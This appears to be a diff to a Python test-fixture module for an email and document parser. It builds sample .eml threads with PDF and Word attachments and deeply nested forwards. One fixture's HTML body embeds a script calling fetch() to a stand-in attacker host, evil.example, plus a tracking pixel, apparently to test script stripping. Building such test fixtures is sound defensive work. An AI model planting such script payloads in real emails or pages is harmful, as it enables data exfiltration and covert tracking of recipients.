@@ -5,6 +5,7 @@ HTML body, nested messages and attachments."""
 from __future__ import annotations
 
 import io
+from email.message import EmailMessage
 
 from docx import Document
 from docx.oxml import parse_xml
@@ -43,3 +44,45 @@ def make_docx() -> bytes:
     out = io.BytesIO()
     doc.save(out)
     return out.getvalue()
+
+
+LATE_TERMS = "The Supplier shall deliver the goods within thirty days of each purchase order."
+HTML_SECRET = "exfiltrate-me"
+
+
+def _message(subject: str, sender: str, date: str, text: str | None = None, html: str | None = None) -> EmailMessage:
+    msg = EmailMessage()
+    msg["Subject"], msg["From"], msg["To"], msg["Date"] = subject, sender, "legal@globex.example", date
+    if text is not None:
+        msg.set_content(text)
+    if html is not None:
+        if text is None:
+            msg.set_content(html, subtype="html")
+        else:
+            msg.add_alternative(html, subtype="html")
+    return msg
+
+
+def make_thread_eml(pdf: bytes) -> bytes:
+    """A reply (newest, outermost) with an HTML-only body and the contract PDF + the Word draft attached, which
+    forwards the original message (oldest, nested) with a plain-text body."""
+    original = _message("MSA draft", "alice@acme.example", "Mon, 02 Mar 2026 09:00:00 +0000",
+                        text="Hi Bob,\n\nplease find our comments below. " + LATE_TERMS)
+    reply = _message("Re: MSA draft", "bob@globex.example", "Wed, 04 Mar 2026 15:30:00 +0000",
+                     html=("<html><head><style>p{color:red}</style><script>fetch('http://evil.example/"
+                           f"{HTML_SECRET}')</script></head><body><p>Hello Alice,</p><p>we accept. The signed "
+                           "contract is attached.<img src='http://tracker.example/pixel.gif'></p></body></html>"))
+    reply.add_attachment(pdf, maintype="application", subtype="pdf", filename="signed-msa.pdf")
+    reply.add_attachment(make_docx(), maintype="application",
+                         subtype="vnd.openxmlformats-officedocument.wordprocessingml.document", filename="msa-v3.docx")
+    reply.add_attachment(original, filename="original.eml")
+    return bytes(reply)
+
+
+def make_nested_eml(depth: int) -> bytes:
+    msg = _message("level 0", "a@example.com", "Mon, 02 Mar 2026 09:00:00 +0000", text="innermost")
+    for level in range(1, depth + 1):
+        outer = _message(f"level {level}", "a@example.com", "Mon, 02 Mar 2026 09:00:00 +0000", text="fwd")
+        outer.add_attachment(msg)
+        msg = outer
+    return bytes(msg)
